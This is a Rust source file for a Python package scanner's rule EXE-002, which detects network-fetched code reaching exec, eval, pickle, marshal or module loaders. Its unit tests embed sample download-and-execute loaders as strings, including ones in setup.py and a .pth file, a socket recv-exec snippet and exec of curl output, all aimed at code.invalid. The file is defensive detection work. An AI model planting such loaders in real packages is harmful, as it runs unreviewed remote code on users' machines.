//! `EXE-002`: what comes from the network runs as Python.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside::{self, BESIDE};
use super::sent::{FAR, asks_constant, comes_by_itself, command_lines, source_call};
use super::{Rule, even_if_asked, in_context, observe_call, observe_flow};
use crate::python::{Analysis, Context, Flow, Label, SinkKind};

/// The rule.
pub(super) struct NetworkCode;

impl Rule for NetworkCode {
    fn id(&self) -> &'static str {
        "EXE-002"
    }

    fn severity(&self) -> Severity {
        Severity::Critical
    }

    fn title(&self) -> &'static str {
        "code from the network runs"
    }

    fn manual(&self) -> &'static str {
        "What a server answers reaches `exec`, `eval`, a code object, an unpickler or a \
         module loader, or a program that downloads is run and its output is executed.\n\n\
         What runs is whatever the other side sends at that moment: nobody has read it, \
         and it can differ from machine to machine.\n\n\
         Mistaken for it: plugin loaders and consoles that a user calls; in library code \
         it counts less. Unpickling from an address is medium outside of installation and \
         start-up, since data libraries offer it."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for flow in &analysis.flows {
            if !(runs(analysis, flow) && comes_from_network(analysis, flow)) {
                continue;
            }
            let worst = match flow.kind {
                // What reads data, as `read_pickle(url)` does, is asked for it by whoever calls it.
                SinkKind::Deserialise if !is_unasked(analysis, flow) => Severity::Medium,
                _ if flow.hops > FAR => Severity::High,
                _ => Severity::Critical,
            };
            let is_known = (asks_constant(analysis, flow) || comes_by_itself(flow))
                && worst > Severity::Medium;
            let severity = match is_known && flow.hops <= FAR {
                true => even_if_asked(worst, flow.context),
                false => in_context(worst, flow.context),
            };
            let confidence = Confidence::of(95).in_context(flow.context);
            let message = format!(
                "{} runs what {} got from the network",
                analysis.sink(flow).target,
                flow.what
            );
            observations.push(observe_flow(
                self,
                (analysis, flow),
                (severity, confidence),
                message,
            ));
        }
        for call in beside::fetched_and_run(analysis) {
            let is_told = observations.iter().any(|seen| call.place.file == seen.file);
            if !is_told {
                let severity = in_context(Severity::High, call.context);
                let message = format!(
                    "{} runs what nobody can read, where something is fetched",
                    call.target
                );
                observations.push(observe_call(self, call, (severity, BESIDE), message));
            }
        }
    }
}

/// Whether nobody but the package itself decides that the code runs.
fn is_unasked(analysis: &Analysis, flow: &Flow) -> bool {
    match flow.context {
        Context::Install | Context::Startup => true,
        Context::Import => asks_constant(analysis, flow),
        _ => false,
    }
}

/// Whether the sink runs what reaches it: everything that takes Python, unpicklers and loaders of
/// modules, but not an import by name.
fn runs(analysis: &Analysis, flow: &Flow) -> bool {
    let target = &*analysis.sink(flow).target;
    match flow.kind {
        SinkKind::Exec => true,
        SinkKind::Deserialise => target.starts_with("marshal.") || target.starts_with("pickle."),
        // What was written to a file is what is imported; a name that was fetched is only a name.
        SinkKind::Import => {
            let is_by_name = matches!(
                target,
                "builtins.__import__"
                    | "importlib.import_module"
                    | "importlib.reload"
                    | "runpy.run_module"
            );
            !is_by_name || flow.label == Label::Dropped
        }
        _ => false,
    }
}

fn comes_from_network(analysis: &Analysis, flow: &Flow) -> bool {
    match flow.label {
        Label::Net | Label::Dropped => true,
        Label::Output => source_call(analysis, flow).is_some_and(|call| {
            let lines = command_lines(call);
            lines
                .iter()
                .any(|line| ["curl ", "wget "].iter().any(|word| line.contains(word)))
        }),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn code_from_the_network_is_seen_however_it_arrives() {
        for (path, code) in [
            (
                "setup.py",
                "import requests\nexec(requests.get('https://code.invalid/a').text)",
            ),
            (
                "demo/__init__.py",
                "from urllib.request import urlopen as u\nf = eval\nf(compile(u('https://code.invalid').read(), '', 'exec'))",
            ),
            (
                "demo/__init__.py",
                "import socket\ns = socket.socket()\ns.connect(('code.invalid', 9))\ndef go():\n    getattr(__builtins__, 'exec')(s.recv(65536).decode())\ngo()",
            ),
            (
                "demo.pth",
                "import urllib.request, marshal; exec(marshal.loads(urllib.request.urlopen('https://code.invalid').read()))",
            ),
            (
                "setup.py",
                "import os\nexec(os.popen('curl -s https://code.invalid/x').read())",
            ),
            (
                "demo/__init__.py",
                "import requests, pickle\npickle.loads(requests.get('https://code.invalid').content)",
            ),
            (
                "setup.py",
                "import urllib.request, importlib.util as i\nurllib.request.urlretrieve('https://code.invalid/m.py', '/tmp/m_payload.py')\nexec(open('/tmp/m_payload.py').read())",
            ),
        ] {
            found("EXE-002", path, code);
        }
    }

    #[test]
    fn data_from_the_network_is_not_code() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import requests, json\ndata = json.loads(requests.get('https://api.invalid').text)",
            ),
            (
                "demo/__init__.py",
                "import requests\nrequests.get('https://api.invalid')\nexec('x = 1')",
            ),
            (
                "demo/__init__.py",
                "import subprocess\nversion = eval(subprocess.check_output(['git', 'describe']))",
            ),
        ] {
            quiet("EXE-002", path, code);
        }
    }
}
